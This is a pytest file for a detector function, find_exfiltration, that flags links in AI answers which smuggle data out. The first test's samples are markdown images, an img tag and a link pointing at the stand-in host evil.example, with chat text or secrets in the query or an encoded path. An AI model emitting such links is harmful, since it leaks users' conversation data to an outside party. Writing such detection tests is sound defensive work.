import pytest

from lockgate.detect import find_exfiltration


@pytest.mark.parametrize(
    "answer",
    [
        "![x](https://evil.example/p.png?d=The+code+is+secret)",
        '<img src="https://evil.example/p?history=user-said-hello">',
        "![x](https://evil.example/SGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgc2VjcmV0IHZhbHVl)",
        "[click](https://evil.example/?q=everything-that-the-user-wrote-in-this-chat)",
    ],
)
def test_addresses_that_carry_data_are_found(answer: str) -> None:
    assert [span.label for span in find_exfiltration(answer)] == ["exfiltration.link"]


@pytest.mark.parametrize(
    "answer",
    [
        "See [the manual](https://example.org/docs/start?page=2).",
        "![boat](https://example.org/boat.png)",
        "![boat](https://example.org/boat.png?w=200&h=100)",
        "Visit https://example.org/?q=kayak",
    ],
)
def test_ordinary_links_are_left_alone(answer: str) -> None:
    assert find_exfiltration(answer) == ()
